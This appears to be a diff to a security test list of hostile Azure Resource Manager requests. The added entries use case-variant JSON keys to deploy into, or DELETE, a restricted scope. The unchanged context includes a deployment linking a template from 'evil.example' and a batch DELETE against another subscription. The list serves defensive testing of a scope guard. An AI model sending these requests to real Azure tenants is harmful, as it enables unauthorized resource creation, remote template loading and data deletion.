@@ -82,6 +82,16 @@ export function azureAttempts({
           properties: template(storage()),
         }),
       ),
+      write('PUT', `${open}/providers/Microsoft.Resources/deployments/attack`, {
+        PROPERTIES: {
+          Mode: 'Incremental',
+          TEMPLATE: { Resources: [{ Type: 'Microsoft.Storage/storageAccounts', Name: 'x', Scope: closed }] },
+        },
+      }),
+      write('PUT', `${open}/providers/Microsoft.Resources/deployments/attack`, {
+        properties: template(),
+        Properties: template(storage({ scope: closed })),
+      }),
       deploy(open, { mode: 'Incremental', templateLink: { uri: 'https://evil.example/template.json' } }),
       deploy(open, template({ ...storage(), scope: "[concat('/', 'x')]" })),
     ],
@@ -149,6 +159,7 @@ export function azureAttempts({
         requests: [{ httpMethod: 'DELETE', url: `${arm}/subscriptions/${otherSubscription}/resourceGroups/x` }],
       }),
       write('POST', '/batch', { requests: 'none' }),
+      write('POST', '/batch', { Requests: [{ HttpMethod: 'DELETE', RelativeUrl: closed }] }),
     ],
   };
 }
